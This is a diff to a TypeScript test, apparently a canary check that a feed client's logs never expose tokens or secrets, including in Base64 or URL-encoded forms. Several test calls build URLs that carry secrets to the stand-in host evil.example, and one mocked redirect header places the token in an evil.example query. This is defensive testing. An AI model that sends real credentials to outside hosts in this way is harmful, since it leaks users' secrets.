@@ -32,7 +32,16 @@ const CURSOR = "canary-cursor";
 function formsOf(secret: string): string[] {
   const json = JSON.stringify(secret).slice(1, -1);
   const form = new URLSearchParams({ a: secret }).toString().slice(2);
-  return [secret, json, JSON.stringify(json).slice(1, -1), encodeURIComponent(secret), form];
+  const escaped = [json, JSON.stringify(json).slice(1, -1), encodeURIComponent(secret), form];
+  // Without the first and last characters, which depend on the text around the secret.
+  const isAscii = /^[ -~]+$/.test(secret);
+  const inBase64 = isAscii ? [0, 1, 2].map((at) => base64Of(secret, at).slice(4, -4)) : [];
+  return [secret, ...escaped, ...inBase64];
+}
+
+/** The Base64 of a secret after other characters. */
+function base64Of(secret: string, before = 0): string {
+  return Buffer.from("i:".slice(0, before) + secret).toString("base64");
 }
 
 /** The entries that contain the text. */
@@ -91,7 +100,14 @@ function watch() {
 
 /** Makes calls of every kind in sequence, and records their outcomes. */
 async function callAll(feed: FeedClient, report: (what: unknown) => void): Promise<unknown[]> {
-  const headers = { "x-key": HEADER, Authorization: `Bearer ${HEADER}`, Cookie: HEADER };
+  const { clientSecret } = SECRETS;
+  const echo = `${encodeURIComponent(clientSecret)} ${base64Of(clientSecret, 2)} ${base64Of(TOKEN)}`;
+  const headers = {
+    "x-key": HEADER,
+    "x-echo": echo,
+    Authorization: `Bearer ${HEADER}`,
+    Cookie: HEADER,
+  };
   const odd = [TOKEN, ...Object.values(SECRETS)];
   const calls: (() => Promise<unknown>)[] = [
     // This call gives the client its token.
@@ -110,6 +126,7 @@ async function callAll(feed: FeedClient, report: (what: unknown) => void): Promi
       (text) => () =>
         feed.follow(`/cards/${encodeURIComponent(text)}?cursor=${encodeURIComponent(text)}`),
     ),
+    ...odd.map((text) => () => feed.follow(`/cards?${encodeURIComponent(text)}=1`)),
     ...odd.map((text) => () => feed.follow(`https://${text}@evil.example/${text}?${text}`)),
     () => feed.follow(`https://${STORED}.example/`),
     () => feed.cards.get("slow", { attemptTimeoutMs: 50, retries: 0 }),
@@ -129,15 +146,13 @@ async function callAll(feed: FeedClient, report: (what: unknown) => void): Promi
 }
 
 const ECHO = [TOKEN, ...Object.values(SECRETS), STORED, SERVER_TEXT].join(" | ");
-/** Headers in which the token exchange's response repeats the token. Logs must not show them. */
-const HIDDEN_HEADERS = {
+/** Headers in which a response repeats the token. */
+const HEADERS = {
   "x-auth-token": TOKEN,
   "set-cookie": `session=${TOKEN}`,
-};
-
-const HEADERS = {
-  ...HIDDEN_HEADERS,
-  "x-echo": `${TOKEN} ${STORED}`,
+  "x-echo": [TOKEN, STORED]
+    .flatMap((one) => [one, ...[0, 1, 2].map((at) => base64Of(one, at))])
+    .join(),
   "x-request-id": TOKEN,
   location: `https://evil.example/?token=${encodeURIComponent(TOKEN)}`,
   "www-authenticate": `Bearer error="${STORED}"`,
@@ -160,7 +175,7 @@ function startEchoServer(status: number, token: Reply = minted()): Promise<TestS
             };
       return { status, statusText: TOKEN, headers: HEADERS, body };
     },
-    () => ({ headers: HIDDEN_HEADERS, ...token }),
+    () => ({ headers: HEADERS, ...token }),
   );
 }
 
